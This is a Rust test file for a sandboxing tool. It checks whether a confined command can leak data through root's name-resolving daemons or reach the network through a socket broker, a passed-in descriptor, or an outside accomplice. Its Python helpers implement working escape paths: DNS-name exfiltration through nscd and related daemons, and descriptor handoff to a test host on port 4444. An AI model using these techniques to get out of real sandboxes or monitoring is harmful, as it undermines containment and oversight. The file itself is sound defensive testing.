//! Daemons of root's that would look names up or open connections for the command (cases N13 and N16): their sockets by
//! path, by the C library's own way to them, by group, and by an open descriptor; and the way back, from outside in.

mod common;

use common::{Fence, as_root, value};
use std::process::Child;
use world::address::PUBLIC4_B;
use world::internet;

/// systemd-resolved's two, nscd's, Avahi's, and the bus on which they answer too.
const RESOLVERS: [&str; 5] = [
    "/run/systemd/resolve/io.systemd.Resolve",
    "/run/systemd/resolve/io.systemd.Resolve.Monitor",
    "/var/run/nscd/socket",
    "/run/avahi-daemon/socket",
    "/run/dbus/system_bus_socket",
];

/// Takes whatever comes on each socket and asks the machine's resolver for the names in it, as these daemons do.
const DAEMON: &str = r#"
import os, re, select, socket, struct, sys
listening = []
for path in sys.argv[1:]:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    s = socket.socket(socket.AF_UNIX)
    s.bind(path)
    os.chmod(path, 0o666)
    s.listen(9)
    listening.append(s)
def ask(name):
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b"."))
    query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(10)
        s.sendto(query, ("11.22.33.53", 53))
        s.recv(4096)
open("/run/ready", "w").close()
while True:
    for s in select.select(listening, [], [])[0]:
        client, _ = s.accept()
        client.settimeout(10)
        try:
            for name in re.findall(rb"[a-z0-9-]+\.secret\.example\.org", client.recv(4096)):
                ask(name)
            client.sendall(b"asked")
        except OSError:
            pass
        client.close()
"#;

/// Gives each daemon a name, and the C library one.
const CLIENT: &str = r#"
import errno, os, socket, sys
tag = sys.argv[1]
for number, path in enumerate(sys.argv[2:]):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(10)
    try:
        s.connect(path)
        s.sendall(f"n{number}-{tag}.secret.example.org\n".encode())
        said = s.recv(10).decode()
    except OSError as cause:
        said = errno.errorcode.get(cause.errno, str(cause))
    print(f"{path}={said}", flush=True)
try:
    socket.getaddrinfo(f"libc-{tag}.secret.example.org", 443)
    print("libc=found")
except OSError:
    print("libc=none")
"#;

fn daemon(fence: &Fence) -> Child {
    fence.world.write("/usr/local/lib/daemon.py", DAEMON, 0o644);
    let mut command = fence.world.command("python3");
    command.arg("/usr/local/lib/daemon.py").args(RESOLVERS);
    let daemon = fence.world.spawn(command).expect("a daemon");
    as_root(fence, "for try in $(seq 100); do [ -e /run/ready ] && exit 0; sleep 0.1; done; exit 1");
    daemon
}

#[test]
fn n13_no_daemon_that_resolves_names_is_reached() {
    let fence = Fence::new();
    fence.world.write("/usr/local/lib/client.py", CLIENT, 0o644);
    // No resolver of the command's own: what the C library asks, it asks nscd.
    fence.world.write("/etc/resolv.conf", "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n", 0o644);
    let mut daemon = daemon(&fence);
    let client = |tag: &str| format!("/usr/bin/python3 /usr/local/lib/client.py {tag} {}", RESOLVERS.join(" "));
    let said = fence.as_nobody(&client("live"));
    for path in RESOLVERS {
        assert_eq!(value(&said, path), "asked", "the daemon is live: {said}");
    }
    let asked = |tag: &str| -> Vec<String> {
        let names = fence.internet.resolver.questions().into_iter().map(|one| one.name);
        names.filter(|name| name.contains(&format!("-{tag}."))).collect()
    };
    let live = asked("live");
    assert!(live.contains(&"libc-live.secret.example.org".to_owned()), "the C library goes to nscd: {live:?}");
    assert_eq!(live.iter().filter(|name| name.starts_with('n')).count(), RESOLVERS.len(), "{live:?}");

    for flags in [&["--policy", "nist-high"][..], &["--policy", "nist-high", "--filesystem", "locked"]] {
        let ended = fence.run(flags, &client("held"));
        for path in RESOLVERS {
            assert_eq!(ended.value(path), "EACCES", "{ended}");
        }
        assert_eq!(ended.value("libc"), "none", "{ended}");
        assert_eq!(asked("held"), Vec::<String>::new(), "{ended}");
        // What the C library then asked the resolver itself is refused, too, and on record.
        assert!(ended.denials().iter().any(|one| one.rule == "dns"), "{ended}");
        assert!(ended.seal().complete, "{ended}");
    }
    daemon.kill().expect("the daemon lives");
    daemon.wait().expect("the daemon ends");
}

/// A broker: opens a connection to the stranger's address for whoever sends it a line, and hands it over.
const BROKER: &str = r#"
import array, os, socket, sys
path, group = sys.argv[1], int(sys.argv[2])
s = socket.socket(socket.AF_UNIX)
os.makedirs(os.path.dirname(path), exist_ok=True)
s.bind(path)
os.chown(path, 0, group)
os.chmod(path, 0o660)
s.listen(9)
open("/run/ready", "w").close()
while True:
    client, _ = s.accept()
    line = client.makefile().readline()
    with open("/run/requests", "a") as requests:
        requests.write(line or "nothing\n")
    if line:
        opened = socket.create_connection(("11.22.33.45", 4444), 5)
        client.sendmsg([b"!"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [opened.fileno()]))])
        opened.close()
    client.close()
"#;

/// Asks the broker on the descriptor 3, or else at its path.
const ASK: &str = r#"
import array, errno, os, socket, sys
try:
    if sys.argv[1] == "3":
        s = socket.socket(fileno=3)
    else:
        s = socket.socket(socket.AF_UNIX)
        s.connect(sys.argv[1])
    s.sendall(b"please\n")
    _, control, _, _ = s.recvmsg(1, socket.CMSG_SPACE(4))
    [fd] = array.array("i", control[0][2][:4])
    os.write(fd, b"through the broker")
    print("ask=reached")
except OSError as cause:
    print("ask=" + errno.errorcode.get(cause.errno, str(cause)))
"#;

/// Connects the descriptor 3 to the broker and becomes another program.
const PASS: &str = r#"
import os, socket, sys
s = socket.socket(socket.AF_UNIX)
s.connect(sys.argv[1])
if s.fileno() != 3:
    os.dup2(s.fileno(), 3)
    os.close(s.fileno())
os.set_inheritable(3, True)
os.execvp(sys.argv[2], sys.argv[2:])
"#;

#[test]
fn n16_a_broker_is_reached_by_no_group_and_no_descriptor_that_is_passed() {
    let fence = Fence::new();
    let (tcp, _udp) = internet::everywhere(&fence.world, 4444).expect("sinks");
    let (broker, group) = ("/run/broker/socket", 777);
    for (path, text) in [("broker", BROKER), ("ask", ASK), ("pass", PASS)] {
        fence.world.write(&format!("/usr/local/lib/{path}.py"), text, 0o644);
    }
    let mut command = fence.world.command("python3");
    command.args(["/usr/local/lib/broker.py", broker, &group.to_string()]);
    let mut daemon = fence.world.spawn(command).expect("a broker");
    as_root(&fence, "for try in $(seq 100); do [ -e /run/ready ] && exit 0; sleep 0.1; done; exit 1");

    let (ask, by_fd) = ("/usr/bin/python3 /usr/local/lib/ask.py", "/usr/bin/python3 /usr/local/lib/ask.py 3");
    let pass = format!("/usr/bin/python3 /usr/local/lib/pass.py {broker}");
    let said = fence.as_root(&format!(
        "setpriv --reuid 12345 --regid 12345 --groups {group} {ask} {broker}; {pass} setpriv --reuid 12345 --clear-groups {by_fd}"
    ));
    assert_eq!(said.out, "ask=reached\nask=reached\n", "both ways are live: {said}");
    assert_eq!(tcp.wait_for(2).len(), 2);
    let requests = || String::from_utf8(fence.world.read("/run/requests").unwrap_or_default()).expect("UTF-8");
    assert_eq!(requests(), "please\nplease\n");

    // The caller is in the group, and the command is not.
    let run = "ringfence run --policy nist-high --ledger";
    let said = fence.as_root(&format!("setpriv --groups 0,{group} {run} /var/log/g.jsonl -- {ask} {broker}"));
    assert_eq!(said.out, "ask=EACCES\n", "{said}");
    let said = fence.as_root(&format!("{pass} {run} /var/log/f.jsonl -- {by_fd}"));
    assert_eq!(said.out, "ask=EBADF\n", "{said}");
    // The broker has had a connection without a request, from whoever opened the descriptor.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while !requests().ends_with("nothing\n") && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    assert_eq!(requests(), "please\nplease\nnothing\n");
    assert_eq!(tcp.arrivals().len(), 2);
    daemon.kill().expect("the broker lives");
    daemon.wait().expect("the broker ends");
}

/// Listens on an abstract name and writes to whatever is handed in.
const LISTEN: &str = r#"
import array, os, socket, sys
s = socket.socket(socket.AF_UNIX)
s.bind("\0" + sys.argv[1])
s.listen(1)
print("listens", flush=True)
s.settimeout(20)
client, _ = s.accept()
_, control, _, _ = client.recvmsg(1, socket.CMSG_SPACE(4))
[fd] = array.array("i", control[0][2][:4])
os.write(fd, b"through the accomplice")
print("wrote=yes")
"#;

/// Hands an open connection in.
const ACCOMPLICE: &str = r#"
import array, socket, sys, time
for _ in range(1000):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect("\0" + sys.argv[1])
        break
    except ConnectionRefusedError:
        time.sleep(0.01)
opened = socket.create_connection(("11.22.33.45", 4444), 5)
s.sendmsg([b"!"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [opened.fileno()]))])
"#;

/// A stated limit (SECURITY.md): the firewall knows a connection by whoever opened it, and the scopes of Landlock hold what
/// is within back, not what is outside. It takes an accomplice who may go out by itself.
#[test]
fn n16_an_accomplice_outside_can_hand_an_open_connection_in() {
    let fence = Fence::new();
    let (tcp, _udp) = internet::everywhere(&fence.world, 4444).expect("sinks");
    fence.world.write("/usr/local/lib/listen.py", LISTEN, 0o644);
    fence.world.write("/usr/local/lib/accomplice.py", ACCOMPLICE, 0o644);
    let mut accomplice = fence.world.command("python3");
    accomplice.args(["/usr/local/lib/accomplice.py", "inside"]);
    let mut accomplice = fence.world.spawn(accomplice).expect("an accomplice");
    let ended = fence.run(&["--policy", "nist-high"], "/usr/bin/python3 /usr/local/lib/listen.py inside");
    accomplice.wait().expect("it ends");
    assert_eq!(ended.value("wrote"), "yes", "{ended}");
    let arrived = tcp.wait_for(1);
    assert_eq!(
        (arrived[0].local.ip(), arrived[0].bytes.as_slice()),
        (PUBLIC4_B.into(), &b"through the accomplice"[..])
    );
    let limit =
        "An accomplice outside can hand an open descriptor in through any of them, and through a socket that the";
    let text = include_str!("../SECURITY.md").split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(text.contains(limit), "what the run shows is stated");
}
